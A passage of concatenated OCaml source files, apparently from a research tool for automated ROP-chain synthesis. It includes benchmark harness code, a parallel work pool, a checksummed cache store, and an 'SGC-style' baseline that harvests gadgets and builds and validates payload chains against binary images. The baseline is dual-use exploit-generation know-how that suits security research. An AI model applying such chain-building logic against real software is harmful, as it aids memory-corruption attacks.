    let t = a.(i) in
    a.(i) <- a.(j);
    a.(j) <- t
  done;
  Array.to_list a

let latency_percentile lats p =
  let a = Array.of_list lats in
  Array.sort compare a;
  let n = Array.length a in
  if n = 0 then 0.
  else a.(max 0 (min (n - 1) (int_of_float (ceil (float n *. p /. 100.)) - 1)))

(* One request through the inline CLI path on fresh caches.  The reset
   is outside the timing: we bill the cold model for the analysis only,
   not for the process setup a real cold run would also pay. *)
let serve_cold_pass replay =
  List.map
    (fun (_key, rq) ->
      reset_world ();
      let r, dt = Gp_core.Api.timed (fun () -> Serve.handle rq) in
      (Serve.report_encode r, dt))
    replay

(* The same replay against a resident daemon (spawned in-process on its
   own domain), one sequential client connection — req/s is
   latency-bound, which is the honest single-client number. *)
let serve_daemon_pass ?cache_dir ~pool_jobs replay =
  reset_world ();
  let sock =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "gp-serve-%d-%d.sock" (Unix.getpid ()) pool_jobs)
  in
  let cfg =
    { (Serve.default_config ~socket:sock) with
      Serve.d_cache_dir = cache_dir;
      d_jobs = pool_jobs }
  in
  let dmn = Domain.spawn (fun () -> Serve.serve cfg) in
  let rec connect tries =
    match Serve.Client.connect sock with
    | Ok cl -> cl
    | Error why ->
      if tries > 500 then failwith ("serve bench: daemon never came up: " ^ why)
      else begin
        Unix.sleepf 0.01;
        connect (tries + 1)
      end
  in
  let cl = connect 0 in
  let results =
    List.map
      (fun (_key, rq) ->
        let t0 = Unix.gettimeofday () in
        match Serve.Client.submit cl rq with
        | Ok r -> (Serve.report_encode r, Unix.gettimeofday () -. t0)
        | Error f ->
          ("FAIL:" ^ Gp_core.Fail.label f, Unix.gettimeofday () -. t0))
      replay
  in
  ignore (Serve.Client.shutdown cl);
  Serve.Client.close cl;
  let sm = Domain.join dmn in
  (results, sm)

(* One request as the durable CLI deployment the daemon replaces:
   fresh process state, store loaded before and saved after (Api.run's
   --cache-dir path), both inside the timing — that is what every
   process-per-request invocation pays to produce a durable warm
   result. *)
let serve_cli_pass ~dir replay =
  List.map
    (fun (_key, rq) ->
      reset_world ();
      let r, dt = Gp_core.Api.timed (fun () -> Serve.handle ~cache_dir:dir rq) in
      (Serve.report_encode r, dt))
    replay

let copy_file src dst =
  let ic = open_in_bin src in
  let n = in_channel_length ic in
  let b = really_input_string ic n in
  close_in ic;
  let oc = open_out_bin dst in
  output_string oc b;
  close_out oc

let serve_json path ~jobs ~n_requests ~cold ~cli ~rows ~journal
    ~durable_speedup ~all_identical =
  let cold_s, cold_p50, cold_p99 = cold in
  let cli_s, cli_p50, cli_p99 = cli in
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"serve";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"analysis daemon (DESIGN.md section 15) vs \
     process-per-request, over a fixed shuffled replay visiting every \
     survey cell twice against a pre-seeded warm store.  \
     cold_nostore = each request inline after a full cache reset, no \
     persistence (context: what raw analysis costs); its timing \
     excludes process exec, so daemon comparisons against it are \
     lower bounds.  cli_store = the deployment the daemon replaces: \
     per request, fresh caches + store LOAD + analysis + store SAVE \
     (Api.run --cache-dir), all timed — durable warm answers at \
     process-per-request cost.  daemon rows = the same replay through \
     one sequential client connection to a resident daemon (req/s is \
     latency-bound, not a saturation number); memory mode, caches \
     resident, no persistence.  journal block = the daemon on the \
     same warm store with the WAL + batched checkpoints on: \
     durability restored at a checkpoint's granularity; overhead is \
     its wall over the same-jobs memory daemon's, minus one (the \
     warm-path store overhead bar).  durable_speedup = cli_store_s / \
     journal_s: both contenders produce durable warm results — the \
     headline resident-vs-cold claim.  identical = every reply's \
     encoded report equals the no-store cold reference byte for byte. \
     Wall-clock ratios are honest numbers for THIS host — see cores \
     before reading them.\",\n";
  p "  \"n_requests\": %d,\n" n_requests;
  p "  \"cold_nostore_s\": %.4f,\n" cold_s;
  p "  \"cold_nostore_rps\": %.3f,\n" (float n_requests /. Float.max 1e-9 cold_s);
  p "  \"cold_nostore_p50_ms\": %.2f,\n" (cold_p50 *. 1000.);
  p "  \"cold_nostore_p99_ms\": %.2f,\n" (cold_p99 *. 1000.);
  p "  \"cli_store_s\": %.4f,\n" cli_s;
  p "  \"cli_store_rps\": %.3f,\n" (float n_requests /. Float.max 1e-9 cli_s);
  p "  \"cli_store_p50_ms\": %.2f,\n" (cli_p50 *. 1000.);
  p "  \"cli_store_p99_ms\": %.2f,\n" (cli_p99 *. 1000.);
  (match journal with
  | None -> ()
  | Some (t_journal, p50, p99, t_plain, checkpoints, identical) ->
    p "  \"journal_s\": %.4f,\n" t_journal;
    p "  \"journal_rps\": %.3f,\n" (float n_requests /. Float.max 1e-9 t_journal);
    p "  \"journal_p50_ms\": %.2f,\n" (p50 *. 1000.);
    p "  \"journal_p99_ms\": %.2f,\n" (p99 *. 1000.);
    p "  \"journal_overhead\": %.4f,\n"
      ((t_journal /. Float.max 1e-9 t_plain) -. 1.);
    p "  \"journal_checkpoints\": %d,\n" checkpoints;
    p "  \"journal_identical\": %b,\n" identical);
  p "  \"durable_speedup\": %.3f,\n" durable_speedup;
  p "  \"all_identical\": %b,\n" all_identical;
  p "  \"rows\": [\n";
  List.iteri
    (fun i (j, t, p50, p99, identical) ->
      p "    { \"jobs\": %d, \"daemon_s\": %.4f, \"rps\": %.3f, \
         \"speedup_vs_cli_store\": %.3f, \"p50_ms\": %.2f, \
         \"p99_ms\": %.2f, \"identical\": %b }%s\n"
        j t
        (float n_requests /. Float.max 1e-9 t)
        (cli_s /. Float.max 1e-9 t)
        (p50 *. 1000.) (p99 *. 1000.) identical
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ]\n";
  p "}\n";
  close_out oc

let serve ?(quick = true) ?(jobs = 4) ?(out = "BENCH_serve.json") () =
  let entries =
    if !smoke_mode then None
    else if quick then
      Some (List.map Gp_corpus.Programs.find quick_benchmark_names)
    else Some Gp_corpus.Programs.all
  in
  let requests = serve_requests ?entries ~quick () in
  let replay = shuffled_replay ~copies:2 requests in
  let n = List.length replay in
  (* warmup: one untimed cold request so no contender pays first-run
     costs (term interner, code paths) *)
  (match replay with
  | r :: _ -> ignore (serve_cold_pass [ r ])
  | [] -> ());
  (* pre-seed the warm store every durable contender starts from: one
     analysis of each unique cell, saved once *)
  let dir_cli =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "gp-serve-cli-%d" (Unix.getpid ()))
  in
  let dir_wal =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "gp-serve-wal-%d" (Unix.getpid ()))
  in
  rm_rf dir_cli;
  rm_rf dir_wal;
  reset_world ();
  List.iter (fun (_, rq) -> ignore (Serve.handle rq)) requests;
  (match Gp_core.Incr.save ~dir:dir_cli with
  | Ok () -> ()
  | Error why -> failwith ("serve bench: seeding the store failed: " ^ why));
  Unix.mkdir dir_wal 0o755;
  copy_file
    (Gp_core.Incr.path ~dir:dir_cli)
    (Gp_core.Incr.path ~dir:dir_wal);
  (* context baseline: raw analysis cost, no persistence *)
  let cold = serve_cold_pass replay in
  let reference = List.map fst cold in
  let cold_lat = List.map snd cold in
  let cold_s = List.fold_left ( +. ) 0. cold_lat in
  (* the incumbent: durable process-per-request over the warm store *)
  let cli = serve_cli_pass ~dir:dir_cli replay in
  let cli_lat = List.map snd cli in
  let cli_s = List.fold_left ( +. ) 0. cli_lat in
  let cli_identical = List.map fst cli = reference in
  (* the challenger, memory mode at 1 and [jobs] pool workers *)
  let jobs_list = if !smoke_mode then [ 1 ] else [ 1; jobs ] in
  let rows =
    List.map
      (fun j ->
        let results, _sm = serve_daemon_pass ~pool_jobs:j replay in
        let lats = List.map snd results in
        let t = List.fold_left ( +. ) 0. lats in
        let identical = List.map fst results = reference in
        ( j, t, latency_percentile lats 50., latency_percentile lats 99.,
          identical ))
      jobs_list
  in
  (* the challenger with durability on: same warm store, WAL + batched
     checkpoints.  Overhead is measured against the same-jobs memory
     daemon — the warm-path store overhead bar. *)
  let wal_jobs = List.fold_left (fun _ j -> j) 1 jobs_list in
  let journal =
    let t_plain =
      match List.rev rows with (_, t, _, _, _) :: _ -> t | [] -> 0.
    in
    let results, sm = serve_daemon_pass ~cache_dir:dir_wal ~pool_jobs:wal_jobs replay in
    let lats = List.map snd results in
    let t = List.fold_left ( +. ) 0. lats in
    Some
      ( t, latency_percentile lats 50., latency_percentile lats 99., t_plain,
        sm.Serve.sm_checkpoints, List.map fst results = reference )
  in
  rm_rf dir_cli;
  rm_rf dir_wal;
  let durable_speedup =
    match journal with
    | Some (tj, _, _, _, _, _) -> cli_s /. Float.max 1e-9 tj
    | None -> 0.
  in
  let all_identical =
    cli_identical
    && List.for_all (fun (_, _, _, _, id) -> id) rows
    && (match journal with Some (_, _, _, _, _, id) -> id | None -> true)
  in
  let t =
    Table.create ~title:"Analysis-as-a-service (DESIGN.md §15)"
      ~header:[ "mode"; "wall(s)"; "req/s"; "p50(ms)"; "p99(ms)"; "identical" ]
  in
  Table.add_row t
    [ "cold, no store"; Printf.sprintf "%.2f" cold_s;
      Printf.sprintf "%.1f" (float n /. Float.max 1e-9 cold_s);
      Printf.sprintf "%.1f" (latency_percentile cold_lat 50. *. 1000.);
      Printf.sprintf "%.1f" (latency_percentile cold_lat 99. *. 1000.);
      "(reference)" ];
  Table.add_row t
    [ "cli + store"; Printf.sprintf "%.2f" cli_s;
      Printf.sprintf "%.1f" (float n /. Float.max 1e-9 cli_s);
      Printf.sprintf "%.1f" (latency_percentile cli_lat 50. *. 1000.);
      Printf.sprintf "%.1f" (latency_percentile cli_lat 99. *. 1000.);
      (if cli_identical then "yes" else "NO") ];
  List.iter
    (fun (j, tw, p50, p99, identical) ->
      Table.add_row t
        [ Printf.sprintf "daemon j=%d" j; Printf.sprintf "%.2f" tw;
          Printf.sprintf "%.1f" (float n /. Float.max 1e-9 tw);
          Printf.sprintf "%.1f" (p50 *. 1000.);
          Printf.sprintf "%.1f" (p99 *. 1000.);
          (if identical then "yes" else "NO") ])
    rows;
  (match journal with
  | Some (tj, p50, p99, _, ck, identical) ->
    Table.add_row t
      [ Printf.sprintf "daemon+wal j=%d" wal_jobs; Printf.sprintf "%.2f" tj;
        Printf.sprintf "%.1f" (float n /. Float.max 1e-9 tj);
        Printf.sprintf "%.1f" (p50 *. 1000.);
        Printf.sprintf "%.1f" (p99 *. 1000.);
        Printf.sprintf "%s (%d ckpt)" (if identical then "yes" else "NO") ck ]
  | None -> ());
  let journal_overhead =
    match journal with
    | Some (tj, _, _, tp, _, _) -> (tj /. Float.max 1e-9 tp) -. 1.
    | None -> 0.
  in
  let body =
    Table.render t
    ^ Printf.sprintf
        "\n%d requests (every survey cell twice, fixed shuffle, warm \
         store); cores: %d\ndurable speedup (cli+store vs daemon+wal): \
         %.2fx; warm-path journal overhead: %.1f%%\nall replies \
         identical to the cold CLI path: %b\n"
        n (Gp_util.Par.available ())
        durable_speedup (journal_overhead *. 100.) all_identical
  in
  serve_json (out_path out) ~jobs ~n_requests:n
    ~cold:
      ( cold_s, latency_percentile cold_lat 50.,
        latency_percentile cold_lat 99. )
    ~cli:
      ( cli_s, latency_percentile cli_lat 50.,
        latency_percentile cli_lat 99. )
    ~rows ~journal ~durable_speedup ~all_identical;
  (body, (rows, durable_speedup, all_identical))
