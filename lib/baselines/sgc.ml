(* SGC-style baseline (paper §II-B "Program Synthesis").

   Faithful to the tool's strategy: it synthesizes chains against logical
   pre/post-conditions with an SMT solver, handles RETURN and INDIRECT-
   JUMP gadgets, but (a) runs a "gadget selection function" that shrinks
   the candidate pool to a few gadgets per register ("the gadget
   candidates pool is similar in different searches"), and (b) never uses
   conditional-jump or merged direct-jump gadgets, nor frame pivots.

   We realize that search behaviour by running the same planning engine
   over the SGC-restricted pool with tight search caps — the comparison
   is about what each STRATEGY CLASS can see, per DESIGN.md §2. *)

let name = "sgc"

let eligible (g : Gp_core.Gadget.t) =
  (not g.Gp_core.Gadget.has_cond)
  && (not g.Gp_core.Gadget.has_merge)
  && (match g.Gp_core.Gadget.stack_delta with
      | Gp_core.Gadget.Sdelta _ -> true
      | Gp_core.Gadget.Spivot _ | Gp_core.Gadget.Sunknown ->
        g.Gp_core.Gadget.syscall_state <> None)

(* Selection function: keep only the [k] shortest gadgets per register,
   plus syscall gadgets. *)
let select ?(k = 3) gadgets =
  let per_reg =
    List.concat_map
      (fun r ->
        List.filter
          (fun (g : Gp_core.Gadget.t) -> List.mem r g.Gp_core.Gadget.clobbered)
          gadgets
        |> List.sort (fun (a : Gp_core.Gadget.t) b ->
               compare a.Gp_core.Gadget.len b.Gp_core.Gadget.len)
        |> List.filteri (fun i _ -> i < k))
      Gp_x86.Reg.all
  in
  let syscalls =
    List.filter (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.syscall_state <> None) gadgets
  in
  let seen = Hashtbl.create 64 in
  List.filter
    (fun (g : Gp_core.Gadget.t) ->
      if Hashtbl.mem seen g.Gp_core.Gadget.id then false
      else begin
        Hashtbl.add seen g.Gp_core.Gadget.id ();
        true
      end)
    (per_reg @ syscalls)

(* SGC enumerates solutions one SMT query at a time; its yield within any
   realistic budget is a handful of chains per goal. *)
let planner_config =
  { Gp_core.Planner.max_plans = 6;
    node_budget = 800;
    time_budget = 8.;
    branch_cap = 4;
    goal_cap = 3;
    max_steps = 10 }

let run ?(pool : Gp_core.Gadget.t list option) ?budget
    (image : Gp_util.Image.t) (goal : Gp_core.Goal.t) : Report.t =
  let t0 = Unix.gettimeofday () in
  let gadgets =
    match pool with
    | Some g -> g
    | None -> fst (Gp_core.Extract.harvest_r ?budget image)
  in
  let restricted = select (List.filter eligible gadgets) in
  let t1 = Unix.gettimeofday () in
  let concrete = Gp_core.Goal.concretize image goal in
  let seen = Hashtbl.create 16 in
  let chains = ref [] in
  let accept p =
    match Gp_core.Payload.build_opt p concrete with
    | None -> false
    | Some c ->
      let key = Gp_core.Payload.chain_set_key c in
      if Hashtbl.mem seen key then false
      else begin
        Hashtbl.add seen key ();
        if Gp_core.Payload.validate image c then begin
          chains := c :: !chains;
          true
        end
        else false
      end
  in
  let _ =
    Gp_core.Planner.search ~config:planner_config ~accept ?budget
      (Gp_core.Pool.build restricted) concrete
  in
  { Report.tool = name;
    pool_total = List.length restricted;
    chains = List.rev !chains;
    gadget_time = t1 -. t0;
    chain_time = Unix.gettimeofday () -. t1 }
