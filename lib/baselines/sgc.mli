(** SGC-style baseline (paper §II-B "Program Synthesis"): chains are
    synthesized against logical pre/post-conditions over RETURN and
    INDIRECT-JUMP gadgets, but (a) a selection function shrinks the pool
    to a few gadgets per register, and (b) conditional, merged, and
    pivoting gadgets are invisible to it.  Realized by running the same
    planning engine over the SGC-restricted pool with tight caps —
    comparing STRATEGY CLASSES, per DESIGN.md §2. *)

val name : string

val eligible : Gp_core.Gadget.t -> bool
val select : ?k:int -> Gp_core.Gadget.t list -> Gp_core.Gadget.t list
(** Keep the [k] (default 3) shortest gadgets per register + syscalls. *)

val planner_config : Gp_core.Planner.config
(** Tight caps modelling SGC's one-solution-per-query enumeration. *)

val run :
  ?pool:Gp_core.Gadget.t list -> ?budget:Gp_core.Budget.t ->
  Gp_util.Image.t -> Gp_core.Goal.t -> Report.t
(** [budget] bounds both the fallback harvest and the search. *)
