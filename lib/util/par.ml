(* Chunked fan-out over OCaml 5 domains (DESIGN.md "Parallel execution
   & determinism").

   The pipeline's first two stages are embarrassingly parallel: every
   harvest start offset and every subsumption bucket is independent.
   This module gives them a minimal work pool with the one property the
   determinism layer needs: RESULTS COME BACK IN TASK ORDER, whatever
   interleaving the scheduler produced.  Workers pull task indices from
   a shared atomic counter and write into index-addressed slots, so no
   two domains ever touch the same slot and no ordering information is
   lost.

   Tasks must not share mutable state with each other; anything they
   accumulate (fault tallies, budget fuel) is returned per task and
   merged associatively by the caller after the join. *)

(* How many domains the hardware can actually run.  [jobs] above this
   only adds scheduling overhead, never throughput. *)
let available () = Domain.recommended_domain_count ()

(* Run every thunk in [tasks] on up to [jobs] domains (the calling
   domain is one of them).  Returns results in task order.  If any task
   raised, the exception of the LOWEST-indexed failed task is re-raised
   after all domains have joined — a fault in task 7 never hides one in
   task 3, and no domain is left running.

   The SPAWNED domain count is clamped to the hardware ([available]):
   oversubscribing domains past the core count buys no throughput and
   multiplies minor-GC synchronization stalls.  Task and chunk structure
   depend only on the REQUESTED [jobs], so results are identical across
   hosts with different core counts. *)
let run ~jobs (tasks : (unit -> 'a) array) : 'a array =
  let n = Array.length tasks in
  let jobs = min jobs (available ()) in
  if n = 0 then [||]
  else if jobs <= 1 || n = 1 then Array.map (fun f -> f ()) tasks
  else begin
    let results : ('a, exn) result option array = Array.make n None in
    let next = Atomic.make 0 in
    let worker () =
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
          results.(i) <- Some (try Ok (tasks.(i) ()) with e -> Error e);
          loop ()
        end
      in
      loop ()
    in
    (* A failed [Domain.spawn] (domain limit, out of memory) must not
       orphan the domains already running: keep every successful spawn
       and drain the queue with the workers we have — the atomic cursor
       makes any worker count complete all n tasks. *)
    let spawned = ref [] in
    (try
       for _ = 2 to min jobs n do
         spawned := Domain.spawn worker :: !spawned
       done
     with _ -> ());
    (* The calling domain participates, but it must reach the joins
       even if its worker dies (only asynchronous exceptions — e.g.
       Out_of_memory — can escape the per-task handler): an early
       propagation here would leave sibling domains unjoined. *)
    let caller_exn = (try worker (); None with e -> Some e) in
    (* Domain.join re-raises an exception that escaped that worker;
       join EVERY domain before propagating so none is orphaned. *)
    let join_exns =
      List.filter_map
        (fun d -> try Domain.join d; None with e -> Some e)
        !spawned
    in
    let escaped =
      match caller_exn with
      | Some _ as e -> e
      | None -> (match join_exns with e :: _ -> Some e | [] -> None)
    in
    (* All domains are joined; now surface failures.  The exception of
       the LOWEST-indexed failed task wins — a fault in task 7 never
       hides one in task 3 — then anything that escaped a worker. *)
    Array.iter (function Some (Error e) -> raise e | _ -> ()) results;
    (match escaped with Some e -> raise e | None -> ());
    Array.map
      (function
        | Some (Ok v) -> v
        | _ ->
          (* unreachable: every index the cursor handed out was either
             written or its worker's death was re-raised above *)
          assert false)
      results
  end

(* Contiguous index ranges [lo, hi) covering [0, n), each at most
   [chunk] wide.  Chunking is a function of (n, chunk) alone — never of
   timing — so a fixed job count always sees the same chunk boundaries. *)
let ranges ~chunk n =
  let chunk = max 1 chunk in
  let nchunks = (n + chunk - 1) / chunk in
  Array.init nchunks (fun i -> (i * chunk, min n ((i + 1) * chunk)))

(* Pick a chunk size that keeps every domain busy without making the
   per-chunk merge dominate: ~4 chunks per job, floor of [min_chunk]. *)
let chunk_size ?(min_chunk = 16) ~jobs n =
  max min_chunk (n / (max 1 jobs * 4))

(* Order-preserving parallel map.  [f] must be safe to call from any
   domain. *)
let map ~jobs ?chunk (f : 'a -> 'b) (xs : 'a list) : 'b list =
  if jobs <= 1 then List.map f xs
  else begin
    let arr = Array.of_list xs in
    let n = Array.length arr in
    if n <= 1 then List.map f xs
    else begin
      let chunk =
        match chunk with Some c -> max 1 c | None -> chunk_size ~jobs n
      in
      let tasks =
        Array.map
          (fun (lo, hi) ->
            fun () -> Array.init (hi - lo) (fun k -> f arr.(lo + k)))
          (ranges ~chunk n)
      in
      run ~jobs tasks |> Array.to_list |> List.concat_map Array.to_list
    end
  end
