(** Versioned, checksummed binary store for content-addressed caches
    (DESIGN.md §11).

    A store file is a list of named sections, each a list of
    [(key, value)] string pairs.  The file carries a magic tag, a
    format version (owned by this module), a schema version (owned by
    the caller — bump it whenever the payload encoding changes), a
    64-bit FNV-1a checksum per entry and one over the whole file.
    {!load} never raises: every way a file can be unusable maps to a
    {!load_error} so callers can fall back to a cold run. *)

(** Little-endian binary primitives shared by every serializer in the
    tree (terms, formulas, summaries).  Readers take the source string
    and a mutable cursor; out-of-bounds reads raise {!Bin.Truncated}. *)
module Bin : sig
  exception Truncated

  val u8 : Buffer.t -> int -> unit
  val i64 : Buffer.t -> int64 -> unit
  val int_ : Buffer.t -> int -> unit
  val str : Buffer.t -> string -> unit
  val bool_ : Buffer.t -> bool -> unit

  val gu8 : string -> int ref -> int
  val gi64 : string -> int ref -> int64
  val gint : string -> int ref -> int
  val gstr : string -> int ref -> string
  val gbool : string -> int ref -> bool
end

val fnv64 : ?h:int64 -> string -> int64
(** 64-bit FNV-1a; [h] seeds chaining ([fnv64 ~h:(fnv64 k) v]). *)

val format_version : int

type section = { name : string; entries : (string * string) list }

type load_error =
  | Missing            (** no file at that path *)
  | Stale of string    (** readable, but format or schema version mismatch *)
  | Corrupt of string  (** bad magic, truncation, or checksum mismatch *)

val error_reason : load_error -> string

val encode : schema:int -> section list -> string
val decode : schema:int -> string -> (section list, load_error) result

val load : schema:int -> string -> (section list, load_error) result
val save : schema:int -> string -> section list -> (unit, string) result
(** [save] writes to a temp file in the target directory and renames it
    into place (atomic on POSIX); the directory is created if needed.
    Errors (permissions, disk full) are returned, never raised. *)
