(** Versioned, checksummed binary store for content-addressed caches
    (DESIGN.md §11).

    A store file is a list of named sections, each a list of
    [(key, value)] string pairs.  The file carries a magic tag, a
    format version (owned by this module), a schema version (owned by
    the caller — bump it whenever the payload encoding changes), a
    64-bit FNV-1a checksum per entry and one over the whole file.
    {!load} never raises: every way a file can be unusable maps to a
    {!load_error} so callers can fall back to a cold run. *)

(** Little-endian binary primitives shared by every serializer in the
    tree (terms, formulas, summaries).  Readers take the source string
    and a mutable cursor; out-of-bounds reads raise {!Bin.Truncated}. *)
module Bin : sig
  exception Truncated

  val u8 : Buffer.t -> int -> unit
  val i64 : Buffer.t -> int64 -> unit
  val int_ : Buffer.t -> int -> unit
  val str : Buffer.t -> string -> unit
  val bool_ : Buffer.t -> bool -> unit

  val gu8 : string -> int ref -> int
  val gi64 : string -> int ref -> int64
  val gint : string -> int ref -> int
  val gstr : string -> int ref -> string
  val gbool : string -> int ref -> bool
end

val fnv64 : ?h:int64 -> string -> int64
(** 64-bit FNV-1a; [h] seeds chaining ([fnv64 ~h:(fnv64 k) v]). *)

val fnv64_i64 : ?h:int64 -> int64 -> int64
(** Fold one 64-bit word (little-endian byte order) into an FNV-1a
    chain without building an intermediate string — for structural
    hashers that mix constants and tags directly. *)

val format_version : int

type section = { name : string; entries : (string * string) list }

type load_error =
  | Missing            (** no file at that path *)
  | Stale of string    (** readable, but format or schema version mismatch *)
  | Corrupt of string  (** bad magic, truncation, or checksum mismatch *)

val error_reason : load_error -> string

val encode : schema:int -> section list -> string
val decode : schema:int -> string -> (section list, load_error) result

val load : schema:int -> string -> (section list, load_error) result
val save : schema:int -> string -> section list -> (unit, string) result
(** [save] writes to a temp file in the target directory, fsyncs it,
    and renames it into place (atomic on POSIX); the directory is
    created if needed.  Errors (permissions, disk full) are returned,
    never raised. *)

val mkdir_p : string -> unit

(** {1 Crash points}

    Named durability points fired just before the dangerous operation
    ("wal-append", "save-rename", and harness-level points such as
    "mid-stage").  The default hook is a no-op; [Faultsim.with_crash_at]
    installs one that raises to simulate process death. *)

val crash_hook : (string -> unit) ref
val crash_point : string -> unit

(** {1 Advisory locking}

    Single-writer discipline for a cache directory: [lockf] for the
    cross-process guarantee plus an in-process registry (fcntl locks
    never conflict within one process).  A second writer gets [Error]
    and must demote to read-only. *)

type lock

val try_lock : ?name:string -> string -> (lock, string) result
(** [try_lock dir] takes [dir/name] (default [".lock"]).  Non-blocking:
    [Error reason] if another writer — in this process or another —
    holds it. *)

val unlock : lock -> unit

(** {1 Write-ahead log}

    Append-only, per-record checksummed journal kept as a sibling of a
    store file ([base ^ ".wal"]).  Recovery walks the file from the
    front and stops at the first short or checksum-failing record:
    truncating the file at {e any} byte boundary yields the valid
    record prefix (never an exception, never a wrong entry), and
    {!Wal.open_append} physically truncates the torn tail before
    appending resumes. *)

module Wal : sig
  val path_of : string -> string
  (** [path_of base] is [base ^ ".wal"]. *)

  type replay = {
    entries : (string * string * string) list;
        (** [(section, key, value)] in append order *)
    torn_bytes : int;   (** bytes dropped from a torn tail; 0 = clean *)
    valid_bytes : int;  (** file offset where the valid prefix ends *)
  }

  val decode : schema:int -> string -> (replay, load_error) result
  val read : schema:int -> string -> (replay, load_error) result

  type t

  val open_append : schema:int -> string -> (t * replay, string) result
  (** Replay the valid prefix, truncate any torn tail on disk, and
      open a writer positioned at the end.  Missing/empty files get a
      fresh header.  Foreign or stale files are an [Error] — the
      caller decides whether to discard and start over. *)

  val append : t -> section:string -> key:string -> value:string -> unit
  (** Buffered append of one checksummed record (thread-safe).  Raises
      [Failure] on I/O errors or append-after-close. *)

  val appended : t -> int
  val sync : t -> unit
  (** Flush + fsync: everything appended so far survives power loss. *)

  val reset : t -> unit
  (** Chop back to a bare header after a successful compaction. *)

  val close : t -> unit

  val abandon : t -> unit
  (** Simulated-crash teardown: drop the fd {e without} flushing, as if
      the process had died.  Test harness only. *)
end
