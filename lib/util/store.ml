(* Versioned, checksummed binary store for content-addressed caches.

   Layout (all integers little-endian):

     magic            "GPST"
     format_version   i64    -- layout of this file (owned here)
     schema_version   i64    -- meaning of the payload (owned by caller)
     nsections        i64
     section*         name:str  nentries:i64  (key:str value:str fnv:i64)*
     file_checksum    i64    -- FNV-1a over every byte before it

   Per-entry checksums cover key ^ value; the trailing file checksum
   covers headers and section names too, so a flipped byte anywhere in
   the file is detected.  [load] never raises: a missing file, a bad
   magic/truncation/checksum, or a version mismatch each map to their
   own constructor so callers can demote to a cold run and report why. *)

module Bin = struct
  exception Truncated

  let u8 b v = Buffer.add_uint8 b (v land 0xff)
  let i64 b v = Buffer.add_int64_le b v
  let int_ b v = i64 b (Int64.of_int v)

  let str b s =
    int_ b (String.length s);
    Buffer.add_string b s

  let bool_ b v = u8 b (if v then 1 else 0)

  let need s pos n = if !pos < 0 || !pos + n > String.length s then raise Truncated

  let gu8 s pos =
    need s pos 1;
    let v = Char.code s.[!pos] in
    incr pos; v

  let gi64 s pos =
    need s pos 8;
    let v = String.get_int64_le s !pos in
    pos := !pos + 8; v

  let gint s pos =
    let v = gi64 s pos in
    let i = Int64.to_int v in
    if Int64.of_int i <> v then raise Truncated;
    i

  let gstr s pos =
    let n = gint s pos in
    if n < 0 then raise Truncated;
    need s pos n;
    let v = String.sub s !pos n in
    pos := !pos + n; v

  let gbool s pos = gu8 s pos <> 0
end

(* FNV-1a, 64-bit. *)
let fnv64 ?(h = 0xcbf29ce484222325L) s =
  let h = ref h in
  String.iter
    (fun c ->
      h := Int64.logxor !h (Int64.of_int (Char.code c));
      h := Int64.mul !h 0x100000001b3L)
    s;
  !h

(* Fold one 64-bit word into an FNV-1a chain, little-endian byte order,
   without materializing an 8-byte string.  Used by structural hashers
   (e.g. the dedup pass) that fold constants and tags directly. *)
let fnv64_i64 ?(h = 0xcbf29ce484222325L) v =
  let h = ref h in
  for i = 0 to 7 do
    let byte =
      Int64.to_int (Int64.logand (Int64.shift_right_logical v (i * 8)) 0xffL)
    in
    h := Int64.logxor !h (Int64.of_int byte);
    h := Int64.mul !h 0x100000001b3L
  done;
  !h

let magic = "GPST"
let format_version = 1

type section = { name : string; entries : (string * string) list }

type load_error =
  | Missing
  | Stale of string   (* readable file, wrong format/schema version *)
  | Corrupt of string (* bad magic, truncation, checksum mismatch *)

let error_reason = function
  | Missing -> "missing"
  | Stale why -> "stale: " ^ why
  | Corrupt why -> "corrupt: " ^ why

let encode ~schema sections =
  let b = Buffer.create (1 lsl 16) in
  Buffer.add_string b magic;
  Bin.int_ b format_version;
  Bin.int_ b schema;
  Bin.int_ b (List.length sections);
  List.iter
    (fun { name; entries } ->
      Bin.str b name;
      Bin.int_ b (List.length entries);
      List.iter
        (fun (k, v) ->
          Bin.str b k;
          Bin.str b v;
          Bin.i64 b (fnv64 ~h:(fnv64 k) v))
        entries)
    sections;
  Bin.i64 b (fnv64 (Buffer.contents b));
  Buffer.contents b

let decode ~schema s =
  let pos = ref 0 in
  try
    if String.length s < 4 || String.sub s 0 4 <> magic then
      Error (Corrupt "bad magic")
    else begin
      (* Verify the trailing whole-file checksum before trusting any
         length field: corruption of a length would otherwise misparse. *)
      let n = String.length s in
      if n < 12 then raise Bin.Truncated;
      let body = String.sub s 0 (n - 8) in
      let tail = ref (n - 8) in
      if Bin.gi64 s tail <> fnv64 body then Error (Corrupt "file checksum")
      else begin
        pos := 4;
        let fv = Bin.gint s pos in
        let sv = Bin.gint s pos in
        if fv <> format_version then
          Error (Stale (Printf.sprintf "format version %d, want %d" fv format_version))
        else if sv <> schema then
          Error (Stale (Printf.sprintf "schema version %d, want %d" sv schema))
        else begin
          let nsec = Bin.gint s pos in
          if nsec < 0 then raise Bin.Truncated;
          let sections =
            List.init nsec (fun _ ->
                let name = Bin.gstr s pos in
                let nent = Bin.gint s pos in
                if nent < 0 then raise Bin.Truncated;
                let entries =
                  List.init nent (fun _ ->
                      let k = Bin.gstr s pos in
                      let v = Bin.gstr s pos in
                      let sum = Bin.gi64 s pos in
                      if sum <> fnv64 ~h:(fnv64 k) v then
                        failwith "entry checksum";
                      (k, v))
                in
                { name; entries })
          in
          if !pos <> n - 8 then Error (Corrupt "trailing bytes")
          else Ok sections
        end
      end
    end
  with
  | Bin.Truncated -> Error (Corrupt "truncated")
  | Failure why -> Error (Corrupt why)

let load ~schema path =
  match
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))
  with
  | exception Sys_error _ -> Error Missing
  | exception End_of_file -> Error (Corrupt "short read")
  | s -> decode ~schema s

let rec mkdir_p d =
  if d <> "" && d <> "." && d <> "/" && not (Sys.file_exists d) then begin
